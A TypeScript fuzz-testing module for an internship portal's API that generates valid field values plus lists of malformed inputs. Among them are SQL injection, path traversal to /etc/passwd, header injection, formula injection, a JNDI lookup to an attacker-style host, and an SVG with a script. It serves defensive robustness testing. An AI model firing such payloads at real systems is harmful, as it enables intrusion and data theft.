/** Values for fields: such as a call takes, by their names, and such as none should choke on. */
import type { Services } from '#provider/context';
import { PDF, PNG, pngOf } from '../builders';
import type { Upload } from '../client';
import { inDays, masters } from '../records';
import type { Random } from './random';

const TEXT = 'A text for any field that asks for one.';

/** Values that calls take, by the name of the field (without `[]`); the last fits all others. */
export function goodValues(services: Services) {
  const m = masters(services);
  const [year, future] = ['2025-03-04', inDays(20)];
  const table: readonly (readonly [RegExp, (random: Random) => unknown])[] = [
    [/^country_id$/, () => m.country],
    [/^state_id$/, () => m.state],
    [/^city_id$/, () => m.city],
    [/^company_domain_id$|^domain_id$/, () => m.domain],
    [/^(skill|category|perk|internship_domain)_ids?$/, (r) => 1 + r.int(8)],
    [/^(id|ids|.*_id)$/, (r) => 1 + r.int(60)],
    [/email/, (r) => r.pick(['student@demo.test', 'company@demo.test', `fuzz${r.int(500)}@example.test`])],
    [/password/, (r) => r.pick(['Fuzz@12345', 'Demo@12345'])],
    [/^token$/, () => 'made-up'],
    [/^status$/, (r) => (r.chance(0.7) ? 1 + r.int(4) : 1 + r.int(10))],
    [/^usn$/, () => '1DI22CS001'],
    [/^reference$/, () => 'UTR12345'],
    [/^internship$/, (r) => 1 + r.int(60)],
    [/^(latitude|longitude|gstin_pan)$/, () => '12.97'],
    [/^decision$/, (r) => 2 + r.int(3)],
    [/^kind$/, (r) => r.pick(['company', 'internship', 'news', 'circular'])],
    [/^(page|per_page|limit|semester|rating|mood_slider|hours)$/, (r) => 1 + r.int(10)],
    [/date|^dob$|^from$|^to$/, (r) => r.pick([year, future])],
    [/mobile|phone|contact_number/, () => '9876543210'],
    [/^is_company$|^is_|^accept_|^declaration_|offered$|experience$|^placed$/, (r) => r.pick(['0', '1'])],
    [/^gender$/, () => 'Female'],
    [/^college$/, () => m.college],
    [/^branch$/, () => m.branch],
    [/^(internship_type|type)$/, (r) => r.pick(['Free', 'Paid', 'Stipend'])],
    [/mode$/, (r) => r.pick(['Onsite', 'Remote', 'Hybrid'])],
    [/^sort$/, (r) => r.pick(['newest', 'deadline', 'stipend', 'rating'])],
    [/linkedin|facebook|twitter|instagram|website/, () => 'https://example.test/x'],
    [/fee|stipend|duration|number|size|offices|required|positions/, (r) => 1 + r.int(50)],
    [/year/, () => '2001'],
    [/pincode/, () => '560001'],
    [/slug/, (r) => `${1 + r.int(60)}-backend-intern`],
    [/^(name|q|search_param)$/, (r) => r.pick(['Asha Rao', 'a', 'Intern'])],
    [/./, () => TEXT],
  ];
  return (name: string, random: Random): unknown => table.find(([names]) => names.test(name))![1](random);
}

const LONG = 'x'.repeat(12_000);

/** Texts that something may choke on. */
export const ODD_TEXTS = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  'a\udfffb',
  '😀',
  '\u202e',
  'İ',
  '0x10',
  '1e308',
  '-1',
  '0',
  '1.5',
  '99999999999',
  '2147483648',
  'NaN',
  'null',
  '[]',
  '{}',
  '["a"]',
  '{"toString":1}',
  'toString',
  'constructor',
  '__proto__',
  'hasOwnProperty',
  "'; drop table users; --",
  '%_\\',
  '2025-02-31',
  '0000-00-00',
  '9999-12-31',
  '1,2,3',
  '1,,x',
  'true',
  '\r\nX-Injected: 1',
  '=1+1',
  '../../etc/passwd',
  LONG,
] as const;

/** Values of JSON that no field asks for. */
export const ODD_JSON = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  2 ** 53,
  [],
  [null],
  ['a'],
  [['a']],
  [{}],
  {},
  { toString: 1 },
  { length: -1 },
  { a: { b: { c: {} } } },
] as const;

/** Names that every object has, or that parsers treat in their own way. */
export const ODD_NAMES = [
  'toString',
  'constructor',
  'valueOf',
  'hasOwnProperty',
  '__proto__',
  '__proto__[]',
  'prototype',
  'length',
  '',
  '[]',
  'a[b]',
  '0',
  'then',
  'a\0b',
] as const;

/** Headers that somebody reads on the way; those that frame a message are not among them. */
export const ODD_HEADERS = [
  'accept',
  'accept-encoding',
  'accept-language',
  'authorization',
  'forwarded',
  'idempotency-key',
  'if-modified-since',
  'if-none-match',
  'origin',
  'range',
  'referer',
  'sec-fetch-site',
  'user-agent',
  'x-forwarded-for',
  'x-forwarded-host',
  'x-forwarded-proto',
  'x-http-method-override',
  'x-xsrf-token',
] as const;
export const ODD_HEADER_VALUES = [
  '',
  ' ',
  '*',
  '%00',
  'null',
  'DELETE',
  'bytes=0-,0-,0-',
  'http://evil.test#',
  '127.0.0.1, evil',
  'for=[::1',
  '"',
  ';;;=,',
  'Bearer x.y.z',
  'W/"' + 'x'.repeat(200),
  '${jndi:ldap://evil.test}',
  'gzip;q=NaN, *;q=9',
  'x'.repeat(4000),
] as const;

/** Files, good ones first. */
export const FILES: readonly Upload[] = [
  PDF,
  PNG,
  { ...PDF, content: '' },
  { ...PDF, name: '' },
  { ...PDF, name: 'x\0.pdf' },
  { ...PDF, name: `${'n'.repeat(300)}.pdf` },
  { ...PDF, content: '%PDF-' },
  { ...PNG, content: PNG.content.subarray(0, 20) },
  { ...PNG, content: pngOf(100_000, 100_000) },
  { ...PNG, type: 'image/jpeg' },
  { name: 'a.jpg', type: 'image/jpeg', content: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0, 0, 0]) },
  { name: 'a.svg', type: 'image/svg+xml', content: '<svg onload="alert(1)"/>' },
];
